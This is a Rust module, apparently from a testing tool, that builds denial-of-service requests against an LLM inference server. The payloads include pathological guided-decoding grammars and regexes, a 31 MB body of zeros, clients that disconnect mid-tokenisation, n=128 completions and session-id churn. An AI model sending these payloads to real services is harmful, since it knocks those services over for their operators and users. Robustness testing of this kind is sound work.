//! Attacks: each is one request or a handful, as small as it can be.

use std::net::TcpStream;
use std::time::Duration;

use serde_json::{Value, json};

use crate::client::{Client, new_text};

/// Grammars that take for ever to compile where nothing bounds it.
pub fn endless_grammars() -> Vec<Value> {
    let multiples =
        json!({"allOf": [{"type": "integer", "multipleOf": 9973}, {"type": "integer", "multipleOf": 9967}]});
    let expressions: Vec<String> = (1..=30).map(|count| format!("/(.*a.{{{count}}}b)*/")).collect();
    let tool = json!({"type": "function", "function": {
        "name": "f", "parameters": {"type": "object", "properties": {"a": multiples}, "required": ["a"]},
    }});
    vec![
        json!({"guided_json": multiples}),
        json!({"guided_json": {"type": "integer", "multipleOf": 999_983}}),
        json!({"guided_json": {"type": "string", "pattern": "(.*a.{40}b){9}"}}),
        json!({"guided_grammar": format!("start: %json {multiples}\n")}),
        json!({"guided_grammar": format!("start: T\nT: {}\n", expressions.join(" & "))}),
        json!({"guided_grammar": "root ::= ((((\"a\"{1,99}){1,99}){1,99}){1,99}){1,99}\n"}),
        json!({"guided_regex": "((((a{1,99}){1,99}){1,99}){1,99}){1,99}"}),
        json!({"tools": [tool], "tool_choice": "required"}),
    ]
}

/// Sends one of them and does not wait.
pub fn compile_without_end(client: &Client, grammar: &Value) -> TcpStream {
    let mut body = json!({"messages": [{"role": "user", "content": "Hi"}], "max_tokens": 4});
    body.as_object_mut().unwrap().extend(grammar.as_object().unwrap().clone());
    client.send("POST", "/v1/chat/completions", &[], body.to_string().as_bytes())
}

/// Bytes of [`many_zeros`]: just below the limit of a body.
pub const MANY_ZEROS: usize = 31 << 20;

/// Two bytes of text for a value that takes many times as much in memory.
pub fn many_zeros() -> Vec<u8> {
    let mut body = vec![b'['];
    body.extend(b"0,".repeat(MANY_ZEROS / 2 - 1));
    body.extend(b"0]");
    body
}

/// The same where numbers are expected.
pub fn many_tokens() -> Vec<u8> {
    [&b"{\"model\": \"m\", \"prompt\": "[..], &many_zeros(), b"}"].concat()
}

/// The same as tokens to be turned into text.
pub fn many_ids() -> Vec<u8> {
    [&b"{\"model\": \"m\", \"tokens\": "[..], &many_zeros(), b"}"].concat()
}

/// How long clients stay who leave before they are answered: long enough for the work to begin.
const STAY: Duration = Duration::from_secs(1);

/// Texts that take long to tokenise, from clients that all leave once the work has begun.
pub fn tokenize_and_leave(client: &Client, count: usize) {
    let body = json!({"model": "m", "prompt": "many words, ".repeat((15 << 20) / 12)}).to_string();
    let stay = || {
        let stream = client.send("POST", "/tokenize", &[], body.as_bytes());
        std::thread::sleep(STAY);
        drop(stream);
    };
    std::thread::scope(|scope| (0..count).for_each(|_| drop(scope.spawn(stay))));
}

/// A request that wants as many rows as there may be, and does not matter.
pub fn many_rows(client: &Client, tokens: usize) -> TcpStream {
    let body =
        json!({"prompt": new_text(10), "n": 128, "max_tokens": tokens, "ignore_eos": true, "stream": true});
    client.send("POST", "/v1/completions", &[("x-priority", "bulk")], body.to_string().as_bytes())
}

/// One of many requests of the same client, each under another session's name.
pub fn new_session(client: &Client) -> TcpStream {
    let (session, body) = (new_text(0), json!({"prompt": new_text(50), "max_tokens": 2, "ignore_eos": true}));
    client.send("POST", "/v1/completions", &[("x-session-id", &session)], body.to_string().as_bytes())
}
